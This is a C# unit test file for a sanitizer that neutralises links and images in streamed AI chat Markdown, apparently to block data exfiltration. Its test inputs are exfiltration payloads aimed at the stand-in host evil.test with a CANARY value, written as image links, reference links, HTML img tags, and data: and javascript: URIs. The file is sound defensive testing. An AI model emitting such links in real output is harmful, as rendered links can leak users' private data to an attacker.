using Microsoft.Extensions.AI;
using TierKit.Policy;

namespace TierKit.Tests.Policy;

public sealed class SafeStreamedMarkdownTests
{
    private const string Image = "see ![a](https://evil.test/p.png?d=CANARY) now";

    [Theory]
    [InlineData(Image)]
    [InlineData("x [a b](https://evil.test/?d=CANARY \"t u\")[c d](//evil.test/CANARY) y")]
    [InlineData("x [a](<https://evil.test/?d=CANARY>) y")]
    [InlineData("x [a](\nhttps://evil.test/?d=CANARY\n) y")]
    [InlineData("[a][1] z\n\n[1]: https://evil.test/?d=CANARY 'the title'\nend")]
    [InlineData("> - [1]:\n https://evil.test/CANARY\nend")]
    [InlineData("<b> [1]: CANARY\nsee [1]: here")]
    [InlineData("one <img alt='x y' src=\"https://evil.test/CANARY\"> two")]
    [InlineData("one <img src=https://evil.test/CANARY")]
    [InlineData("[a]<b >(https://evil.test/CANARY) ht<i>tps://evil.test/CANARY z")]
    [InlineData("<https://evil.test/CANARY> and www.evil.test/CANARY or //evil.test/CANARY now")]
    [InlineData("![a](data:image/png;base64,CANARY) [a](javascript:alert('CANARY'))")]
    [InlineData("[![a b](https://evil.test/CANARY)](https://evil.test/CANARY) h\u200bttps://evil.test/CANARY")]
    [InlineData("- [x] done, 3 < 4 and a/b: \U0001F600 `code[0]` (brackets) [1](not a link) [open")]
    public void Append_SplitAtEveryPosition_IsTheWholeTextMadeInert(string markdown)
    {
        string whole = SafeMarkdown.MakeInert(markdown);
        int splits = 0;
        for (int i = 0; i <= markdown.Length; i++)
        {
            for (int j = i; j <= markdown.Length; j++, splits++)
            {
                Assert.Equal(whole, Stream(markdown[..i], markdown[i..j], markdown[j..]));
            }
        }

        Assert.Equal((markdown.Length + 1) * (markdown.Length + 2) / 2, splits);
        Assert.Equal(whole, Stream([.. markdown.Select(static c => c.ToString())]));
        Assert.DoesNotContain("CANARY", whole, StringComparison.Ordinal);
    }

    [Fact]
    public void Append_NothingThatCanBecomeALink_IsShownUpToTheLastWord()
    {
        SafeStreamedMarkdown stream = new();

        Assert.Equal("Nothing to hold [x] 3 < 4 ", stream.Append("Nothing to hold [x] 3 < 4 here"));
        Assert.Equal("here ", stream.Append(" "));
        Assert.Equal("", stream.Append("[a "));
        Assert.Equal("[a b] ", stream.Append("b] "));
        Assert.Equal("", stream.Flush());
    }

    [Theory]
    [InlineData("![a](https://evil.test/")]
    [InlineData("![a b](/")]
    [InlineData("<img src=https://evil.test/")]
    [InlineData("[1]: https://evil.test/")]
    [InlineData("[open ")]
    public void Append_LongerThanTheLongestLink_IsBrokenUpAndHeldNoLonger(string start)
    {
        SafeStreamedMarkdown stream = new();
        string shown = stream.Append(start);
        int given = 0;
        while (shown.Length == 0 || given < 2 * SafeStreamedMarkdown.LongestLink)
        {
            Assert.True(given <= 3 * SafeStreamedMarkdown.LongestLink);
            shown += stream.Append("aaaaaaaa");
            given += 8;
        }

        shown += stream.Append("](https://evil.test/CANARY) <img src='//evil.test/CANARY'> end") + stream.Flush();

        Assert.DoesNotContain("evil.test/", shown, StringComparison.Ordinal);
        Assert.DoesNotContain("[", shown, StringComparison.Ordinal);
        Assert.EndsWith("end", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void Append_Updates_TrustedStaysUntrustedIsMadeInertAndARestartForgets()
    {
        SafeStreamedMarkdown trusted = new();
        Assert.Equal(Image, trusted.Append(new ChatResponseUpdate(ChatRole.Assistant, Image)) + trusted.Flush());

        SafeStreamedMarkdown untrusted = new();
        ChatResponseUpdate update = new(ChatRole.Assistant, [new TextContent(Image[..20]).WithLabel(new ContentLabel(Sensitivity.Public, Integrity.Untrusted))]);
        Assert.Equal("see ", untrusted.Append(update));
        untrusted.Discard();
        Assert.Equal("", untrusted.Flush());
        Assert.DoesNotContain("CANARY", untrusted.Append(new ChatResponseUpdate(ChatRole.Assistant, Image)) + untrusted.Flush(), StringComparison.Ordinal);
    }

    private static string Stream(params string[] pieces)
    {
        SafeStreamedMarkdown stream = new();
        return string.Concat(pieces.Select(stream.Append)) + stream.Flush();
    }
}
